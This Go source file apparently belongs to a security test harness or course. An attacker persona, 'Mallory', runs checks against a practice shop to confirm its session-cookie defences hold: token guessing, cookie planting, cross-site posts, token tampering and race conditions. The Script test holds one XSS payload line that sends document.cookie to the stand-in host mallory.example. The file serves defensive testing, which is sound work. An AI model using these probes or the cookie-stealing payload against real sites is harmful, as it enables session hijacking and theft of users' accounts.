package mallory

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"net/http/cookiejar"
	"net/url"
	"strings"
)

// Shop is Mallory at the real shop. None of its attacks should succeed.
type Shop struct{ visitor *Visitor }

// Shop returns Mallory at the shop.
func (v *Visitor) Shop() *Shop { return &Shop{visitor: v} }

// visit makes one request to the shop, with a tag unless it is "".
func (s *Shop) visit(ctx context.Context, c call, tag string) (*answer, error) {
	if tag != "" {
		cookie, err := pair(s.visitor.config.TagName, tag)
		if err != nil {
			return nil, err
		}
		c.cookies = append(c.cookies, cookie)
	}
	return s.visitor.shop.visit(ctx, c)
}

func (s *Shop) look(ctx context.Context, c call, tag string) (Look, error) {
	a, err := s.visit(ctx, c, tag)
	if err != nil {
		return Look{}, err
	}
	return a.look(), nil
}

// Hat is the SKU of what MakeTag puts into the cart.
func (s *Shop) Hat() string { return s.visitor.config.SKU }

// MakeTag lets Mallory get a tag, with one thing in the cart.
func (s *Shop) MakeTag(ctx context.Context) (tag string, e Exchange, err error) {
	a, err := s.add(ctx, "", s.visitor.config.SKU)
	if err != nil {
		return "", Exchange{}, err
	}
	return a.cookie(s.visitor.config.TagName), a.exchange, nil
}

func (s *Shop) add(ctx context.Context, tag, sku string) (*answer, error) {
	return s.visit(ctx, call{path: "/cart/lines", form: url.Values{"sku": {sku}, "quantity": {"1"}}}, tag)
}

// With opens the account with a tag: ComeBack of lesson 9, the replay of lesson 12.
func (s *Shop) With(ctx context.Context, tag string) (Look, error) {
	return s.look(ctx, call{path: "/account"}, tag)
}

// Cart opens the cart with a tag.
func (s *Shop) Cart(ctx context.Context, tag string) (Look, error) {
	return s.look(ctx, call{path: "/cart"}, tag)
}

// Guess tries n tags of the right form: Mallory knows the key's name from her own tag, and
// makes up the rest.
func (s *Shop) Guess(ctx context.Context, n int) (g Guesses, err error) {
	own, first, err := s.MakeTag(ctx)
	if err != nil {
		return g, err
	}
	g.Exchanges = []Exchange{first}
	key, _, _ := strings.Cut(own, ".")
	for range min(n, maxTries) {
		a, err := s.visit(ctx, call{path: "/cart"}, key+"."+randomPart()+"."+randomPart())
		if err != nil {
			return g, err
		}
		g.Tried++
		look := a.look()
		if look.In || look.Cart > 0 {
			g.Hits++
		}
		if a.status == 429 {
			g.Refused++
		}
		if g.Tried == 1 || g.Refused == 1 && len(g.Exchanges) < 3 {
			g.Exchanges = append(g.Exchanges, a.exchange)
		}
	}
	return g, nil
}

// randomPart is 32 random bytes, as long as the shop's own.
func randomPart() string {
	b := make([]byte, 32)
	rand.Read(b)
	return base64.RawURLEncoding.EncodeToString(b)
}

// Plant comes with a session cookie of plain name, as a proxy or a neighbouring host can set it,
// beside no tag.
func (s *Shop) Plant(ctx context.Context) (Look, error) {
	tag, _, err := s.MakeTag(ctx)
	if err != nil {
		return Look{}, err
	}
	c := call{path: "/cart"}
	for _, name := range []string{"sid", "tag"} {
		if name == s.visitor.config.TagName {
			continue
		}
		cookie, err := pair(name, tag)
		if err != nil {
			return Look{}, err
		}
		c.cookies = append(c.cookies, cookie)
	}
	return s.look(ctx, c, "")
}

// Script asks the shop's search for a script. Escaped reports whether the page shows it as text.
func (s *Shop) Script(ctx context.Context) (e Exchange, escaped bool, err error) {
	const script = `<script>new Image().src="//mallory.example?c="+document.cookie</script>`
	a, err := s.visit(ctx, call{path: "/products?q=" + url.QueryEscape(script)}, "")
	if err != nil {
		return Exchange{}, false, err
	}
	body, e := string(a.body), a.exchange
	e.Got = append(e.Got, "Content-Security-Policy: "+a.policy)
	at := strings.Index(body, "&lt;script&gt;")
	if at >= 0 { // the page as it was sent, not as it reads
		e.Body = []string{clip(body[at:])}
	}
	return e, !strings.Contains(body, script) && at >= 0, nil
}

// CrossSitePost sends the form that another site would make a browser send, with the browser's own
// tag.
func (s *Shop) CrossSitePost(ctx context.Context, tag string) (Exchange, error) {
	a, err := s.visit(ctx, call{path: "/cart/lines", form: url.Values{"sku": {s.visitor.config.SKU}, "quantity": {"1"}},
		header: map[string]string{"Origin": "http://mallory.localhost", "Sec-Fetch-Site": "cross-site"}}, tag)
	if err != nil {
		return Exchange{}, err
	}
	return a.exchange, nil
}

// ChangeLetter opens the cart with a tag in which the token's first letter is another.
func (s *Shop) ChangeLetter(ctx context.Context, tag string) (Look, error) {
	key, rest, found := strings.Cut(tag, ".")
	if !found || rest == "" {
		return Look{}, errCookie
	}
	letter := "a"
	if rest[:1] == letter {
		letter = "b"
	}
	return s.Cart(ctx, key+"."+letter+rest[1:])
}

// Crawl sends n visitors without cookies to the shop, all of one new name. Rows stays 0: they are
// counted in the database, by that name.
func (s *Shop) Crawl(ctx context.Context, n int) (c Crawled, err error) {
	agent := UserAgent + " crawling " + rand.Text()
	named := map[string]string{"User-Agent": agent}
	c, err = s.visitor.shop.crawl(ctx, call{path: "/products", header: named}, n)
	c.Agent = agent
	return c, err
}

// ReadAgain reads one page with a tag n times.
func (s *Shop) ReadAgain(ctx context.Context, tag string, n int) (Crawled, error) {
	return s.visitor.shop.crawl(ctx, call{path: "/products", cookies: []string{s.visitor.config.TagName + "=" + tag}}, n)
}

// AddAs puts one thing into a new cart as a visitor of a name, which makes a row of that name.
func (s *Shop) AddAs(ctx context.Context, agent string) (Exchange, error) {
	a, err := s.visit(ctx, call{path: "/cart/lines", form: url.Values{"sku": {s.visitor.config.SKU}, "quantity": {"1"}},
		header: map[string]string{"User-Agent": agent}}, "")
	if err != nil {
		return Exchange{}, err
	}
	return a.exchange, nil
}

// LateWrite ends a session of Mallory's, *Empty and forget this cart*, while five presses with its
// tag are being answered, and returns how it ended, one more press with that tag and the cart.
func (s *Shop) LateWrite(ctx context.Context) (end, late Exchange, after Look, err error) {
	tag, _, err := s.MakeTag(ctx)
	if err != nil {
		return end, late, after, err
	}
	add := func() error {
		_, err := s.add(ctx, tag, s.visitor.config.SKU2)
		return err
	}
	forget := func() error {
		a, err := s.visit(ctx, call{path: "/cart/forget", form: url.Values{}}, tag)
		if err == nil {
			end = a.exchange
		}
		return err
	}
	if err := atOnce(add, add, forget, add, add, add); err != nil {
		return end, late, after, err
	}
	a, err := s.add(ctx, tag, s.visitor.config.SKU2)
	if err != nil {
		return end, late, after, err
	}
	after, err = s.Cart(ctx, tag)
	return end, a.exchange, after, err
}

// Picture asks for a picture over http with the cookies that a browser which got them over https
// would send along, and returns how many those were.
func (s *Shop) Picture(ctx context.Context) (got, asked Exchange, sent int, err error) {
	a, err := s.add(ctx, "", s.visitor.config.SKU)
	if err != nil {
		return got, asked, 0, err
	}
	jar, err := cookiejar.New(nil)
	if err != nil {
		return got, asked, 0, err
	}
	jar.SetCookies(&url.URL{Scheme: "https", Host: "shop.example"}, a.cookies)
	c := call{path: "/favicon.svg"}
	for _, cookie := range jar.Cookies(&url.URL{Scheme: "http", Host: "shop.example"}) {
		c.cookies = append(c.cookies, cookie.Name+"="+cookie.Value)
	}
	picture, err := s.visit(ctx, c, "")
	if err != nil {
		return got, asked, 0, err
	}
	return a.exchange, picture.exchange, len(c.cookies), nil
}

// OverlappingAdds puts two products into Mallory's cart at once.
func (s *Shop) OverlappingAdds(ctx context.Context) (Adds, error) {
	tag, _, err := s.MakeTag(ctx)
	if err != nil {
		return Adds{}, err
	}
	add := func(sku string) (*answer, error) { return s.add(ctx, tag, sku) }
	return overlap(add, s.visitor.config.SKU, s.visitor.config.SKU2, func() (Look, error) { return s.Cart(ctx, tag) })
}
